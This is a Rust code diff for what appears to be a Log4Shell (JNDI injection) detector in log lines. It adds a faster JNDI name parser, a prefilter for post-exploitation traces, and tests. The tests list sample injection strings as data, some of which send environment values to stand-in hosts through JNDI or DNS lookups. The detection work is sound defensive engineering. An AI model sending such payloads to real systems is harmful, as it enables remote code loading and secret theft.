@@ -4,6 +4,7 @@
 use std::borrow::Cow;
 use std::sync::LazyLock;
 
+use aho_corasick::packed;
 use memchr::memmem::Finder;
 use serde::{Serialize, Serializer};
 
@@ -184,6 +185,9 @@ impl JndiTarget {
     /// Parses a `jndi` name such as `ldap://evil.example:1389/a` or `rmi://[::1]/x`.
     pub fn parse(name: &str) -> Self {
         let name = name.trim();
+        if memchr::memchr(b'$', name.as_bytes()).is_none() {
+            return Self::parse_without_lookups(name);
+        }
         let Some(colon) = find_outside_lookups(name, b":") else {
             return Self {
                 path: non_empty(name),
@@ -205,6 +209,44 @@ impl JndiTarget {
             if substitutor::find_open(host.as_bytes(), 0).is_some() {
                 host.to_string()
             } else if host.is_ascii() {
+                host.to_ascii_lowercase()
+            } else {
+                host.to_lowercase()
+            }
+        });
+        Self {
+            protocol,
+            host,
+            port,
+            path,
+        }
+    }
+}
+
+impl JndiTarget {
+    /// [`JndiTarget::parse`] for a name without a `$` (nearly all): no lookup to step over, so
+    /// each separator is one `memchr` away.
+    fn parse_without_lookups(name: &str) -> Self {
+        let bytes = name.as_bytes();
+        let Some(colon) = memchr::memchr(b':', bytes) else {
+            return Self {
+                path: non_empty(name),
+                ..Self::default()
+            };
+        };
+        let scheme = &name[..colon];
+        let protocol = (!scheme.is_empty()).then(|| JndiProtocol::from_scheme(scheme));
+        let rest = name[colon + 1..].trim_start_matches('/');
+        let authority_end =
+            memchr::memchr3(b'/', b'?', b'#', rest.as_bytes()).unwrap_or(rest.len());
+        let mut authority = &rest[..authority_end];
+        let path = rest.get(authority_end + 1..).and_then(non_empty);
+        if let Some(at) = memchr::memrchr(b'@', authority.as_bytes()) {
+            authority = &authority[at + 1..];
+        }
+        let (host, port) = split_port(authority);
+        let host = (!host.is_empty()).then(|| {
+            if host.is_ascii() {
                 host.to_ascii_lowercase()
             } else {
                 host.to_lowercase()
@@ -294,9 +336,9 @@ fn unclosed(s: &str) -> usize {
 /// already in `findings`; `at_end` says the text ends where the line ends, so a lookup left
 /// open there was cut by the logger, not by a window.
 pub(crate) fn analyze(decoded: &str, limits: &Limits, at_end: bool, findings: &mut Vec<Finding>) {
-    // Text whose lookups are all plain `jndi` ones evaluates to itself: what is found is those
-    // lookups, and nothing left in the text is exfiltration (a `jndi` lookup reads nothing).
-    if substitutor::is_plain_jndi(decoded, limits) {
+    // Text whose lookups are all plain `jndi` or inert ones evaluates to itself: what is found
+    // is the `jndi` lookups, and nothing left in the text is exfiltration (they read nothing).
+    if substitutor::is_plain(decoded, limits) {
         for name in substitutor::plain_jndi_names(decoded) {
             push_new(findings, jndi_finding(name));
         }
@@ -477,6 +519,15 @@ pub(crate) fn post_exploitation(line: &str) -> Option<Finding> {
     // built once beat one automaton, whose rare-byte prefilter stops at every capital letter.
     static FINDERS: LazyLock<Vec<Finder<'static>>> =
         LazyLock::new(|| TRACES.iter().map(Finder::new).collect());
+    // One packed search for all three first rules out nearly every line; the searches above
+    // then run only on lines with a trace, to pick it in the order of `TRACES`.
+    static ANY_TRACE: LazyLock<Option<packed::Searcher>> =
+        LazyLock::new(|| packed::Config::new().builder().extend(TRACES).build());
+    if let Some(any) = ANY_TRACE.as_ref()
+        && any.find(line.as_bytes()).is_none()
+    {
+        return None;
+    }
     let (at, trace) = TRACES
         .iter()
         .zip(FINDERS.iter())
@@ -539,6 +590,76 @@ mod tests {
             };
             assert_eq!(JndiProtocol::from_scheme(scheme), expected, "{scheme}");
         }
+    }
+
+    /// The general parse, with the shortcut for names without `$` turned off.
+    fn parse_stepping_over_lookups(name: &str) -> JndiTarget {
+        let name = name.trim();
+        let Some(colon) = find_outside_lookups(name, b":") else {
+            return JndiTarget {
+                path: non_empty(name),
+                ..JndiTarget::default()
+            };
+        };
+        let scheme = &name[..colon];
+        let protocol = (!scheme.is_empty()).then(|| JndiProtocol::from_scheme(scheme));
+        let rest = name[colon + 1..].trim_start_matches('/');
+        let authority_end = find_outside_lookups(rest, b"/?#").unwrap_or(rest.len());
+        let mut authority = &rest[..authority_end];
+        let path = rest.get(authority_end + 1..).and_then(non_empty);
+        if let Some(at) = rfind_outside_lookups(authority, b'@') {
+            authority = &authority[at + 1..];
+        }
+        let (host, port) = split_port(authority);
+        let host = (!host.is_empty()).then(|| {
+            if substitutor::find_open(host.as_bytes(), 0).is_some() {
+                host.to_string()
+            } else {
+                host.to_lowercase()
+            }
+        });
+        JndiTarget {
+            protocol,
+            host,
+            port,
+            path,
+        }
+    }
+
+    #[test]
+    fn names_without_lookups_parse_as_the_general_parser_does() {
+        let mut names: Vec<String> = [
+            "ldap://Evil.Example:1389/a",
+            "rmi://[::1]:1099/x/y",
+            "RMI://[::1/x",
+            "dns://u:p@h.example:53?q#f",
+            "ldap://a@b@c:x/y",
+            "corbaname:iiop:1.2@h",
+            "x",
+            "",
+            " ldap:///h/ ",
+            "ldap://h:99999/p",
+            "http://\u{c4}\u{e9}.example/\u{fc}",
+            "iiop://host:/",
+        ]
+        .iter()
+        .map(|s| s.to_string())
+        .collect();
+        for line in crate::hunt::corpus::generate(29, 600) {
+            for call in substitutor::evaluate(&line.text, &Limits::default()).jndi {
+                names.push(call.name);
+            }
+        }
+        let mut plain = 0;
+        for name in &names {
+            plain += usize::from(!name.contains('$'));
+            assert_eq!(
+                JndiTarget::parse(name),
+                parse_stepping_over_lookups(name),
+                "{name:?}"
+            );
+        }
+        assert!(plain > 100, "{plain}");
     }
 
     #[test]
@@ -662,6 +783,9 @@ mod tests {
             "${jndi:ldap://${env:X}.a.example/x}",
             "${jndi:ldap://a}${lower:X}",
             "${jndi:ldap://a} ${server.port}",
+            "${server.port} ${HOME} ${x:hostName} ${hostName}.a.example",
+            "http://${env:USER} ${jndi:a}",
+            "${base64:!!}.oast.example ${base64:am5kaQ==}",
             "\u{e9}${jndi:\u{fc}ber.example}",
             "${j\u{130}ndi:x}",
             "no lookup",
@@ -694,7 +818,7 @@ mod tests {
                         }
                         assert_eq!(fast, full, "{window:?}");
                     }
-                    plain += usize::from(substitutor::is_plain_jndi(window, limits));
+                    plain += usize::from(substitutor::is_plain(window, limits));
                 }
             }
         }
